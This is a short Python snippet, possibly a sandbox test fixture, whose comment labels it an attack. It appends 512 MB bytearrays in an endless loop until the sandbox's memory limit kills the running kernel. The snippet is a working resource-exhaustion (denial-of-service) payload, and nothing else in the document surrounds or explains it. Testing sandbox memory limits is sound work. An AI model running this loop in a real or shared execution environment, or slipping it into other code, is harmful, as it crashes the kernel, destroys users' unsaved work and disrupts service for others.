# Attack: allocate until the sandbox's memory limit kills the kernel.
hog = []
while True:
    hog.append(bytearray(512 * 1024**2))
